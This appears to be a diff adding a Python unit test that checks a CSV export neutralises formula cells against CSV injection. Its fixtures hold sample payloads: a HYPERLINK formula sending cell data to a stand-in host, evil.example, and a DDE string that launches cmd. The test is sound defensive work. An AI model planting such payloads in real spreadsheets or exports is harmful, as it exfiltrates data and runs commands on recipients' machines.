@@ -124,3 +124,40 @@ def test_csv_quotes_values_with_commas_quotes_and_newlines() -> None:
     )
     rows = list(csv.reader(io.StringIO(render_csv(package_of(part)))))
     assert ["interactions", "0", "summary", 'Said "call me", then\nhung up'] in rows
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
+    """CSV injection (issue 16 item 8): text starting with = + - @ tab or CR gets a leading
+    quote; numbers stay numbers."""
+    formulas = [
+        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    part = ExportPart(
+        service="lead-ingest",
+        sections={
+            "interactions": [
+                {
+                    "answers": {f"a{n}": text for n, text in enumerate(formulas)},
+                    "score": -5,
+                    "ratio": -0.5,
+                    "plain": "Rossi - Impianti",
+                    "broken": "one\r=2+2",
+                    "list": ["=x"],
+                }
+            ]
+        },
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(package_of(part)), newline="")))
+    values = {row[2]: row[3] for row in rows if row[0] == "interactions"}
+    for n, text in enumerate(formulas):
+        assert values[f"answers.a{n}"] == "'" + text
+    assert values["score"] == "-5"
+    assert values["ratio"] == "-0.5"
+    assert values["plain"] == "Rossi - Impianti"
+    assert values["broken"] == "one\r=2+2", "quoted: a CR does not start a row"
+    assert values["list.0"] == "'=x"
